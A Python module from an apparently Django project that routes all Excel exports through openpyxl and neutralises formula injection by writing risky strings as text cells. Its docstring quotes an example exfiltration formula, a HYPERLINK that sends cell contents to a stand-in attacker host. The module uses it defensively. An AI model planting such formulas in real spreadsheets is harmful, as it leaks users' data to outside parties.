"""The one way Huifu writes Excel workbooks: every export builds its sheets through here.

Text typed by users (a contact's name, a plan title, a notice title) can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return. Spreadsheet programs treat such a cell as a formula
(CSV/formula injection, e.g. ``=HYPERLINK("http://evil.example/?x="&A1,"click")``). openpyxl
even stores a string starting with ``=`` as a live formula. Here such a string is always written as a
text cell (and, outside write-only mode, with Excel's "quote prefix", so editing the cell later
keeps it text). The value itself is unchanged, so an exported file can be imported again as it is.
Exports create workbooks with :func:`workbook`, write rows with :func:`append` and serialise with
:func:`to_bytes`; ``huifu/core/tests/test_spreadsheets.py`` fails if a module builds its own.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell.rich_text import CellRichText

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(*, write_only: bool = False) -> Workbook:
    """A new workbook. With ``write_only`` rows are streamed (large exports); then rows must be
    written with :func:`append`, and the workbook has no sheet until one is created."""
    return Workbook(write_only=write_only)


def is_risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def text_safe(value: Any) -> Any:
    """``value`` as openpyxl should receive it: a risky string is wrapped as rich text, which
    openpyxl always writes as a text cell (a plain ``str`` starting with ``=`` would become a
    formula). It reads back as the same plain string."""
    if is_risky(value):
        return CellRichText(value)
    return value


def append(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row; strings are written as text, never as formulas. Other values (numbers,
    dates, ``Decimal``) are written as they are."""
    sheet.append([text_safe(value) for value in values])


def to_bytes(book: Workbook) -> bytes:
    """The workbook as .xlsx bytes. Any string cell that was set directly (``ws["A1"] = ...``)
    and would be read as a formula is turned into text first, so nothing written bypasses the
    rule."""
    if not book.write_only:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if is_risky(cell.value):
                        cell.value = text_safe(cell.value)
                    if isinstance(cell.value, CellRichText) and is_risky(str(cell.value)):
                        cell.quotePrefix = True  # editing the cell in Excel keeps it text
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def download(content: bytes, filename: str) -> HttpResponse:
    """The .xlsx as a download named ``filename`` (every export view returns this; the private
    documents middleware adds ``Cache-Control: private, no-store``)."""
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    # RFC 6266/5987: a Chinese file name arrives intact (filename*=utf-8''...)
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response["Cache-Control"] = "private, no-store"
    return response
